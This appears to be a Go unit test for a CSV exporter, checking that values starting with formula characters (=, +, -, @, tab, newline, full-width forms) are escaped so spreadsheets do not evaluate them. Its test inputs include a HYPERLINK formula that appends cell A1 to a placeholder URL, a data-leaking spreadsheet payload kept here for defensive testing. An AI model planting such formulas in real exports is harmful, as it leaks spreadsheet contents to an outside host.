package app

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// TestNoFormula has people write what a spreadsheet would calculate.
func TestNoFormula(t *testing.T) {
	var out bytes.Buffer
	write, finish, err := exporter("csv", &out)
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\n=1", "'=1", "＝1", "＋1", "－1", "＠1"} {
		out.Reset()
		data, err := json.Marshal(map[string]string{"service": bad, "consent": bad, "id": bad})
		if err != nil {
			t.Fatal(err)
		}
		if err := write(exportedEvent{Seq: 1, Operator: bad, Second: &bad, Counter: bad, Reason: bad, Data: data}); err != nil {
			t.Fatal(err)
		}
		if err := finish(); err != nil {
			t.Fatal(err)
		}
		row, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, cell := range row[len(row)-1] {
			if strings.HasSuffix(cell, bad) {
				found++
			}
			if strings.HasPrefix(cell, bad) || strings.HasPrefix(cell, "'") && cell[1:] != bad {
				t.Errorf("%q became %q", bad, cell)
			}
		}
		if found != 7 {
			t.Errorf("%q: in %d cells, 7 expected", bad, found)
		}
	}
	for _, good := range []string{"", "window-2", "2045000151", "理由", "{\"a\":1}"} {
		if got := noFormula(good); got != good {
			t.Errorf("%q became %q", good, got)
		}
	}
}
